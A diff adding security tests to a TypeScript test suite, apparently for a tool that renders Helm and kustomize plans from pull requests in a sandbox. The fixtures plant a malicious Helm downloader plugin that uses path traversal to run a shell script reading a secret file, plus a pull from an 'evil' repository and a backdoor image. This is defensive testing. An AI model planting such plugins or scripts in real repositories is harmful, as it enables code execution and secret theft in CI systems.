@@ -4,14 +4,15 @@
  * command runs from PR-written git config, no host file reaches the plan, no request
  * leaves a render, and runaway renders end as findings.
  */
-import { chmodSync, existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { chmodSync, existsSync, mkdirSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { plan } from '../../src/engine.js';
-import { detectSandbox } from '../../src/render/sandbox.js';
+import { detectSandbox, renderHome } from '../../src/render/sandbox.js';
 import type { AppPlan, Plan } from '../../src/types.js';
 import { TEST_HELM } from '../helpers/bin.js';
 import { TestRepo, tempDir } from '../helpers/gitrepo.js';
@@ -140,7 +141,8 @@ EOF
     for (const m of spyCm!.diff!.matchAll(/^[+ ]\s+(\w+): ['"]?(.*?)['"]?$/gm)) data[m[1]!] = m[2]!;
     expect(data.network).toBe('closed');
     expect(data.server).toBe('hidden');
-    expect(data.homeFiles!.trim()).toBe('tmp');
+    // Only what Ferry put there: no PR file, no dotfile.
+    expect(data.homeFiles!.trim().split(' ').sort()).toEqual(['no-helm-plugins', 'tmp']);
     expect(data.gitConfig).toBe('');
     expect(data.home!.startsWith(path.join(tmpdir(), 'ferry-home-'))).toBe(true);
     // The rendered tree is not HOME, and HOME is not inside it.
@@ -272,5 +274,70 @@ EOF
     expect(f!.message).toMatch(/kustomize failed for apps\/web/);
     expect(f!.message).not.toContain(tmpdir() + '/');
     expect(f!.message).not.toMatch(/ferry-(tree|home)-/);
+  });
+
+  it('a Helm downloader plugin planted through a generator file\'s configHome never runs', async () => {
+    const marker = path.join(tempDir('ferry-marker-'), 'pwned');
+    const plugin = `name: pl\nversion: 0.1.0\ncommand: "$HELM_PLUGIN_DIR/none"\ndownloaders:\n- command: "${'../'.repeat(14)}bin/sh apps/x/charts/cfg/x.sh"\n  protocols: [ferryx]\n`;
+    const r = repo({ 'apps/ok/cm.yaml': cm('ok') });
+    const base = r.commit('base');
+    r.write({
+      'apps/x/kustomization.yaml': 'generators: [gen.yaml]\nhelmGlobals: {chartHome: charts}\nhelmCharts: [{name: dummy, releaseName: d}]\n',
+      'apps/x/gen.yaml': 'apiVersion: builtin\nkind: HelmChartInflationGenerator\nmetadata: {name: g}\nname: c\nversion: 1.0.0\nrepo: ferryx://evil/repo\nreleaseName: r\nchartHome: charts\nconfigHome: apps/x/charts/cfg\n',
+      'apps/x/charts/dummy/Chart.yaml': 'apiVersion: v2\nname: dummy\nversion: 0.1.0\n',
+      'apps/x/charts/dummy/values.yaml': '{}\n',
+      'apps/x/charts/dummy/templates/cm.yaml': cm('dummy'),
+      'apps/x/charts/cfg/.data/plugins/pl/plugin.yaml': plugin,
+      'apps/x/charts/cfg/x.sh': `echo pwned > ${marker}\ncat ${secretFile} >&2\nexit 1\n`,
+      // The same through the inline form.
+      'apps/y/kustomization.yaml': 'helmGlobals: {chartHome: charts, configHome: charts/cfg}\nhelmCharts: [{name: dummy, releaseName: d}]\n',
+      'apps/y/charts/dummy/Chart.yaml': 'apiVersion: v2\nname: dummy\nversion: 0.1.0\n',
+      'apps/y/charts/dummy/templates/cm.yaml': cm('dummy'),
+    });
+    const head = r.commit('plugin');
+    const p = await planOf(r, base, head);
+    expect(existsSync(marker)).toBe(false);
+    expect(JSON.stringify(p)).not.toContain(SECRET);
+    for (const name of ['x', 'y']) {
+      const a = app(p, name);
+      expect(a.status).toBe('error');
+      expect(a.findings.map((f) => f.rule)).toContain('render-refused');
+    }
+  });
+
+  it('inside a render, helm runs only `template` and `version`, and finds no plugins', async () => {
+    const home = await renderHome(TEST_HELM);
+    cleanups.push(() => void home.dispose());
+    const run = (args: string[]) => {
+      try {
+        return { code: 0, out: execFileSync(home.helm!, args, { env: { PATH: process.env.PATH, ...home.env }, stdio: 'pipe' }).toString() };
+      } catch (err) {
+        const e = err as { status: number; stderr: Buffer };
+        return { code: e.status, out: e.stderr.toString() };
+      }
+    };
+    expect(run(['version', '--short']).out).toMatch(/^v3\./);
+    expect(run(['pull', 'ferryx://evil/repo/c'])).toEqual({ code: 1, out: 'helm pull is not allowed in a Ferry render (charts must be in the repository)\n' });
+    expect(run(['plugin', 'install', 'x']).code).toBe(1);
+    expect(run(['env']).code).toBe(1);
+    expect(home.env.HELM_PLUGINS).toBeDefined();
+    expect(readdirSync(home.env.HELM_PLUGINS!)).toEqual([]);
+  });
+
+  it('a patch named only by a PatchTransformer is an input: changing it plans the app', async () => {
+    const deploy = (image: string) => `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: b\nspec:\n  selector: {matchLabels: {app: b}}\n  template:\n    metadata: {labels: {app: b}}\n    spec:\n      containers:\n        - name: b\n          image: ${image}\n`;
+    const r = repo({
+      'apps/b/kustomization.yaml': 'resources: [deploy.yaml]\ntransformers: [tx.yaml]\n',
+      'apps/b/tx.yaml': 'apiVersion: builtin\nkind: PatchTransformer\nmetadata: {name: t}\npath: patches/patch.yaml\ntarget: {kind: Deployment}\n',
+      'apps/b/deploy.yaml': deploy('nginx:1.27'),
+      'apps/b/patches/patch.yaml': deploy('nginx:1.27'),
+    });
+    const base = r.commit('base');
+    r.write({ 'apps/b/patches/patch.yaml': deploy('evil.example/backdoor:latest') });
+    const head = r.commit('only the patch');
+    const p = await planOf(r, base, head);
+    const b = app(p, 'b');
+    expect(b.changes.map((c) => `${c.action} ${c.kind}/${c.name}`)).toEqual(['changed Deployment/b']);
+    expect(b.changes[0]!.diff).toMatch(/^\+\s+- image: evil.example\/backdoor:latest$/m);
   });
 });
